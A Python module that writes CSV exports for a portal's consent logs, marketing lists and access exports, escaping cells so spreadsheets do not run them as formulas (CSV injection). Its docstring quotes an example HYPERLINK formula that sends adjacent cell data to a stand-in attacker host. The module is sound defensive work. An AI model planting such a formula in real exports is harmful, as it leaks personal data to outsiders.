"""CSV files that are safe to open in a spreadsheet: the one way the portal writes CSV.

Every CSV the portal writes (the consent-log and marketing exports in the admin, the
suppression-list and audience commands, the CSV files of an access export) holds text that
someone outside typed: a user agent, a name, a contact message, an e-mail address. A
spreadsheet that opens the file runs a cell starting with "=" as a formula, so a planted
`=HYPERLINK("https://evil.example/?"&A1,"click")` could send the neighbouring cells to a
stranger when the DPO or the requester clicks it (CSV injection, OWASP).

Following OWASP's guidance, a cell gets a leading apostrophe (shown as text, never run)
when its first character is "=", "+", "-", "@", a tab or a carriage return; also when that
sign comes after leading whitespace (a spreadsheet may trim it on import) or is written in
its full-width or small form, such as U+FF1D FULLWIDTH EQUALS SIGN (some spreadsheets read
those as the ASCII sign). A cell that is a plain number, such as "-3" or "+1.5e3", stays as
it is: a spreadsheet reads it as a number, which runs nothing, and an apostrophe would turn
it into text. Files are written with Python's csv module (comma-separated, RFC 4180
quoting); the escape protects the cells as a program splitting on commas sees them.

JSON is not a spreadsheet: an access export's data.json keeps the exact text.
"""

import csv
import re
import unicodedata
from collections.abc import Iterable
from typing import Any

# What a cell must not start with (OWASP's list): the signs a formula may start with, and
# the two control characters OWASP lists with them.
FORMULA_SIGNS = frozenset("=+-@")
FORMULA_CONTROLS = ("\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def spreadsheet_cell(value: Any) -> str:
    """`value` as the text of a cell no spreadsheet runs as a formula (None is empty)."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_CONTROLS):
        return f"'{text}"
    stripped = text.strip()
    # NFKC folds the full-width and small forms of the signs (U+FF1D, U+FE66, ...) to ASCII.
    first = unicodedata.normalize("NFKC", stripped[:1])[:1]
    if first in FORMULA_SIGNS and not PLAIN_NUMBER.fullmatch(stripped):
        return f"'{text}"
    return text


class SpreadsheetWriter:
    """A csv.writer whose every cell goes through `spreadsheet_cell`."""

    def __init__(self, stream):
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([spreadsheet_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream) -> SpreadsheetWriter:
    """A CSV writer on `stream` (a file, an HttpResponse, self.stdout) that escapes formulas."""
    return SpreadsheetWriter(stream)
